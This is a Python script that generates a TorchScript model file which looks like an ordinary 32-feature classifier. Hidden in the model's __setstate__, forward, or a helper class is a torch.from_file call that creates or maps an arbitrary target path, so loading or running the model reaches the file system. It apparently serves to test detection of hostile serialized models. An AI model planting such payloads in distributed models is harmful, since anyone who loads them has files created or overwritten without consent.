"""Writes a TorchScript module that reaches the file system, as an attacker would.

    python3 write_file_reaching_module.py TARGET OUT setstate|forward|helper

The module calls torch.from_file(TARGET, shared=True, size=1), which creates TARGET (or maps and
overwrites it), either in __setstate__ (so torch.jit.load runs it while the file loads), in
forward, or (helper) in a method of a TorchScript class, not a module, that forward calls. Otherwise it is an ordinary module for 32 features and 4 classes: Linear(32, 4) after a
scale. The class is written to a .py file beside OUT first, because torch.jit.script needs the
source of what it compiles and the call must hold TARGET as a literal.
"""
import importlib.util
import sys

import torch

target, out, where = sys.argv[1], sys.argv[2], sys.argv[3]
assert where in ("setstate", "forward", "helper"), where
reach = "self.scale = self.scale + 0 * torch.from_file(%r, True, 1)" % target
helper_call = "self.scale = self.scale + Helper().touch()"

source = '''
import torch
from typing import Tuple


class Helper(object):
    def __init__(self):
        self.size = 1

    def touch(self) -> torch.Tensor:
        return 0 * torch.from_file(%r, True, self.size)


class Payload(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = torch.ones(1)

    def forward(self, x):
        %s
        return x * self.scale

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.scale, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.scale = state[0]
        self.training = state[1]
        %s


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.payload = Payload()
        self.fc = torch.nn.Linear(32, 4)

    def forward(self, x):
        return self.fc(self.payload(x))
''' % (target, reach if where == "forward" else helper_call if where == "helper" else "pass",
       reach if where == "setstate" else "pass")

with open(out + ".py", "w") as f:
    f.write(source)
spec = importlib.util.spec_from_file_location("payload_module", out + ".py")
module = importlib.util.module_from_spec(spec)
sys.modules["payload_module"] = module  # where torch.jit.script looks for Helper's source
spec.loader.exec_module(module)
torch.jit.script(module.Net()).save(out)
